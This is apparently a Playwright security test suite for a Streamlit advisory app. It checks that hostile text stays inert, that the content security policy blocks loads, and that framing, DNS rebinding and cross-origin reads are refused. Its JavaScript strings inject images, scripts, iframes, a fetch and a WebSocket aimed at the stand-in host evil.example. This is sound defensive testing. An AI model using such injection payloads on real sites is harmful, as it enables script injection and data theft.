"""What a browser makes of the pages: hostile text stays text, nobody outside is asked, no other site gets in.

The server stands under a sub-path, so every page here is proof that the app works there.
"""

from __future__ import annotations

import http.server
import json
import re
import threading
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, BrowserContext, BrowserType, Page, Request, expect

from advisor.web.navigation import PAGES

from .conftest import HOSTILE_NAMES, ROOT, SUB_PATH, Served

pytestmark = pytest.mark.browser
PATIENCE = 60_000  # milliseconds; a busy machine is slow, not broken
FOREIGN = "evil.example"
# More of a page than its address shows at first.
MORE = {"why_not": "&platform=instagram", "platform": "&platform=instagram"}
# All that text may not become. Our own pages have no picture, and no mark of theirs holds an "x" alone.
ALIVE = """() => [...document.querySelectorAll('a, img, iframe, object, embed, form, video, audio, base')]
  .filter(e => e.tagName === 'IMG' || /evil/i.test([e.href, e.src, e.data, e.action].join()))
  .concat([...document.querySelectorAll('[role=img][aria-label="home icon"]')])
  .concat([...document.querySelectorAll('strong, em, del, code, b, [class*=stMarkdown], .katex')]
    .filter(e => e.textContent === 'x'))
  .map(e => e.outerHTML.slice(0, 200))"""
OPEN_ALL = """async () => { for (let turn = 0; turn < 3; turn++) {
  document.querySelectorAll('details:not([open]) > summary').forEach(e => e.click());
  await new Promise(done => setTimeout(done, 200)); } }"""
COME_ALIVE = """async () => {
  document.body.insertAdjacentHTML('beforeend',
    '<img src="https://evil.example/p.png" onerror="window.ran = 1"><style>@import '
    + '"https://evil.example/s.css"; body { background: url(https://evil.example/b.png) }</style>'
    + '<iframe src="https://evil.example/"></iframe>');
  for (const text of ['window.ran = 2', null]) {
    const s = document.createElement('script');
    if (text) { s.textContent = text } else { s.src = 'https://evil.example/s.js' }
    document.body.append(s) }
  await fetch('https://evil.example/f').catch(() => 0);
  try { new WebSocket('wss://evil.example/w') } catch { }
  await new Promise(done => setTimeout(done, 500)) }"""
TRY_ALL = """async (app) => {
  const open = new Promise(done => {
    const s = new WebSocket(app.replace('http', 'ws') + '/_stcore/stream', 'streamlit');
    s.onopen = () => done('open'); s.onerror = () => done('refused') });
  const run = new Promise(done => {
    const s = document.createElement('script'); s.src = app + '/_stcore/host-config';
    s.onload = () => done('run'); s.onerror = () => done('refused'); document.body.append(s) });
  const got = (path, options) => fetch(app + path, options).then(() => 'read', () => 'refused');
  const put = {method: 'PUT', body: 'x', credentials: 'include'};
  return {
    websocket: await open, script: await run, read: await got('/_stcore/health'),
    'with cookies': await got('/_stcore/health', {credentials: 'include'}),
    opaque: await got('/_stcore/health', {mode: 'no-cors'}),
    write: await got('/_stcore/upload_file/a/b', put) } }"""
WATCH = """window.violations = []; document.addEventListener('securitypolicyviolation',
  e => window.violations.push(`${e.effectiveDirective} ${e.blockedURI} ${e.sourceFile}`))"""


@pytest.fixture(scope="module")
def visitor(browser: Browser) -> Iterator[BrowserContext]:
    """One browser for all pages, so that it reads the scripts once; what breaks the policy is noted."""
    context = browser.new_context(accept_downloads=True)
    context.set_default_timeout(PATIENCE)
    context.add_init_script(WATCH)
    expect.set_options(timeout=PATIENCE)
    yield context
    context.close()


@pytest.fixture(scope="module")
def works(served: Served, hostile_drafts: list[dict[str, Any]]) -> list[str]:
    return [served.keep(draft) for draft in hostile_drafts]


@pytest.fixture(scope="module")
def work(works: list[str]) -> str:
    return works[0]


def opened(page: Page, address: str) -> None:
    """Go there and wait until all is drawn."""
    page.goto(address)
    expect(page.locator(".st-key-foot")).to_be_visible()
    expect(page.locator("[data-test-script-state=notRunning]")).to_be_attached()


def joined(text: str) -> str:
    return text.replace("\u2060", "")


# Each page is looked at without a browser by day, with every name. These draw in ways of their own: a form, a
# chart, a table, markup, a file; the others are opened at night.
BY_DAY = frozenset(
    {"start", "why", "resources", "tool", "how_sure", "compare", "plan", "data", "method", "take", "review"}
)


@pytest.mark.parametrize(
    "name", [n if n in BY_DAY else pytest.param(n, marks=pytest.mark.nightly) for n in PAGES]
)
def test_hostile_text_stays_text_and_asks_nobody(
    visitor: BrowserContext, served: Served, works: list[str], name: str
) -> None:
    page = visitor.new_page()
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    path = "" if name == "start" else name
    names_itself = name in ("start", "tool", "plan", "review")
    # every name on every page is looked at without a browser, too; here all of them where they stand largest
    every_name = name in ("start", "tool")
    for part, work in zip(HOSTILE_NAMES, works if every_name else works[:1], strict=False):
        opened(page, f"{served.address}/{path}?work={work}{MORE.get(name, '')}")
        page.evaluate(OPEN_ALL)

        assert page.evaluate(ALIVE) == []
        assert page.evaluate("window.violations") == []
        assert [url for url in asked if not url.startswith((served.address, "data:", "blob:"))] == []
        if names_itself:
            assert part in joined(page.locator("[data-testid=stMain]").inner_text())
    page.close()


def test_charts_are_drawn_under_the_policy(visitor: BrowserContext, served: Served, work: str) -> None:
    page = visitor.new_page()
    opened(page, f"{served.address}/how_sure?work={work}")

    expect(page.locator("[data-testid=stVegaLiteChart] :is(canvas, svg.marks)").first).to_be_visible()
    assert page.evaluate("window.violations") == []
    page.close()


def test_even_markup_that_came_alive_could_ask_nobody(visitor: BrowserContext, served: Served) -> None:
    """The second wall: whatever gets into a page, the policy lets it load and run nothing."""
    page = visitor.new_page()
    refused: dict[str, str | None] = {}
    answered: list[str] = []
    page.on("requestfailed", lambda request: refused.update({request.url: request.failure}))
    page.on("response", lambda response: answered.append(response.url))
    opened(page, served.address + "/")
    page.evaluate(COME_ALIVE)

    assert {failed for url, failed in refused.items() if FOREIGN in url} == {"csp"}
    assert [url for url in answered if FOREIGN in url] == []
    assert page.evaluate("window.ran") is None
    said = " ".join(page.evaluate("window.violations"))
    for directive in ("img-src", "style-src-elem", "frame-src", "script-src-elem", "connect-src"):
        assert directive in said, directive
    page.close()


def test_a_link_to_a_source_does_not_tell_where_one_came_from(
    visitor: BrowserContext, served: Served, work: str
) -> None:
    """The address of a page holds the key to the work."""
    page = visitor.new_page()
    followed: list[Request] = []
    visitor.route(re.compile("^https://"), lambda route: (followed.append(route.request), route.abort()))
    opened(page, f"{served.address}/library?work={work}")
    with visitor.expect_page() as opening:
        page.locator(".st-key-foot").scroll_into_view_if_needed()
        page.locator("[class*=st-key-row-library-] a[href^='https://']").first.click()
    opening.value.wait_for_timeout(300)
    # Streamlit asks for this in each link; the policy must hold where nobody asks.
    page.evaluate("location.href = 'https://source.example/'")
    page.wait_for_timeout(300)
    visitor.unroute_all()

    assert len(followed) == 2
    assert [request.all_headers().get("referer") for request in followed] == [None, None]
    assert opening.value.evaluate("window.opener") is None
    opening.value.close()
    page.close()


# ------------------------------------------------------------------------------------------ the sub-path


def test_links_buttons_reload_and_address_stay_below_the_sub_path(
    visitor: BrowserContext, served: Served
) -> None:
    page = visitor.new_page()
    opened(page, served.address)
    page.locator(".st-key-example-police-recruiting button").click()
    expect(page.get_by_role("heading", name="Your advice", level=1)).to_be_visible()
    assert page.url.startswith(f"{served.address}/tool?work=")

    page.locator(".st-key-views").get_by_role("link", name="Plan", exact=True).click()
    expect(page.get_by_role("heading", level=1)).to_contain_text("plan")
    assert page.url.startswith(f"{served.address}/plan?work=")
    links = page.evaluate(
        "[...document.querySelectorAll('[data-testid=stPageLink] a')].map(link => link.href)"
    )
    assert len(links) > 15
    assert [link for link in links if not link.startswith(f"{served.address}/")] == []

    page.reload()
    expect(page.locator(".st-key-foot")).to_contain_text("Saved")
    expect(page.get_by_role("heading", level=1)).to_contain_text("plan")

    page.go_back()
    expect(page.get_by_role("heading", name="Your advice", level=1)).to_be_visible()
    page.close()


def test_files_come_down_and_go_up_below_the_sub_path(
    visitor: BrowserContext, served: Served, tmp_path: Path
) -> None:
    work = served.keep(json.loads((ROOT / "examples" / "police-recruiting.json").read_text(encoding="utf-8")))
    page = visitor.new_page()
    opened(page, f"{served.address}/take?work={work}")
    with page.expect_download() as downloading:
        page.get_by_role("button", name="Save my answers (JSON)").click()
    downloading.value.save_as(tmp_path / "answers.json")
    assert json.loads((tmp_path / "answers.json").read_text(encoding="utf-8"))["department"]

    opened(page, served.address)
    page.locator("[data-testid=stFileUploader] input[type=file]").set_input_files(tmp_path / "answers.json")
    expect(page.get_by_role("heading", name="Your advice", level=1)).to_be_visible()
    page.close()


# ---------------------------------------------------------------------------------------------- other sites


@pytest.fixture(scope="module")
def foreign(
    browser_type: BrowserType, browser_type_launch_args: dict[str, Any], served: Served
) -> Iterator[Callable[[str], Page]]:
    """A browser that takes this machine for evil.example too, and a site of that name: opens a page of it
    with the given HTML."""
    held = {"html": ""}

    class Site(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(held["html"].encode())

        def log_message(self, *_: object) -> None:
            pass

    site = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Site)
    threading.Thread(target=site.serve_forever, daemon=True).start()
    rules = f"--host-resolver-rules=MAP {FOREIGN} 127.0.0.1"
    browser = browser_type.launch(
        **{**browser_type_launch_args, "args": [*browser_type_launch_args["args"], rules]}
    )
    page = browser.new_page()
    page.set_default_timeout(PATIENCE)

    def open_page(html: str) -> Page:
        held["html"] = html
        page.goto(f"http://{FOREIGN}:{site.server_port}/")
        return page

    yield open_page
    browser.close()
    site.shutdown()
    site.server_close()


def test_no_other_page_can_show_the_app_in_a_frame(foreign: Callable[[str], Page], served: Served) -> None:
    page = foreign(f"<iframe id=f src='{served.address}/'></iframe>")
    page.wait_for_timeout(500)
    frame = page.frames[1]

    assert frame.url.startswith("chrome-error:")
    assert frame.locator("#root").count() == 0


def test_a_name_pointed_at_this_machine_shows_nothing(foreign: Callable[[str], Page], served: Served) -> None:
    """Rebinding: a stranger's name leads here, so the browser takes the app for a page of the stranger."""
    page = foreign("")
    answer = page.goto(f"http://{FOREIGN}:{served.port}/{SUB_PATH}/")

    assert answer is not None
    assert answer.status == 421
    assert "does not answer to this name" in page.inner_text("body")
    assert page.evaluate(
        f"fetch('/{SUB_PATH}/_stcore/health').then(answer => answer.status)"
    ) == 421  # fmt: skip


def test_no_other_page_can_open_a_websocket_or_read_or_write(
    foreign: Callable[[str], Page], served: Served
) -> None:
    page = foreign("<p>a page of somebody else</p>")

    assert page.evaluate(TRY_ALL, served.address) == {
        "websocket": "refused", "read": "refused", "with cookies": "refused", "opaque": "refused",
        "write": "refused", "script": "refused",
    }  # fmt: skip
    assert served.outside == []
